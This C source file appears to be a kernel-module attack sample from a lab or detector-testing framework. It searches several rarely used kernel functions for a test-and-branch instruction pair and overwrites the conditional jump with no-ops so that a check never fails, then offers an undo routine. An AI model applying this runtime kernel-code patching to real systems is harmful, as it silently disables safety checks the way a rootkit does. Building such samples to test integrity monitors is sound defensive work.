// SPDX-License-Identifier: GPL-2.0-only OR BSD-2-Clause
/* A conditional jump is overwritten with no-ops, so that a check never fails. */
#include "attack.h"

static u8 *place;
static u8 original[2];

static int attack(void)
{
	static const u8 nops[2] = {0x90, 0x90};
	/* Functions that nobody calls in the lab, one of which has such a check near its start. */
	static const char *const names[] = {"kernel_kexec", "hibernate", "__x64_sys_swapoff",
					    "__do_sys_swapoff", "kernel_restart"};
	size_t index;

	for (index = 0; index < ARRAY_SIZE(names); index++) {
		unsigned long target = symbol(names[index]), at;

		for (at = target + 9; target && at < target + 256; at++) {
			/* test of a register by itself, then a short jump if it was zero or not */
			if (*(u8 *)at != 0x85 || *(u8 *)(at + 1) < 0xc0)
				continue;
			if (*(u8 *)(at + 2) != 0x74 && *(u8 *)(at + 2) != 0x75)
				continue;
			place = (u8 *)(at + 2);
			memcpy(original, place, sizeof(original));
			write_protected(place, nops, sizeof(nops));
			return 0;
		}
	}
	return -ENXIO;
}

static void undo(void)
{
	write_protected(place, original, sizeof(original));
}

ATTACK("a check taken out of a function");
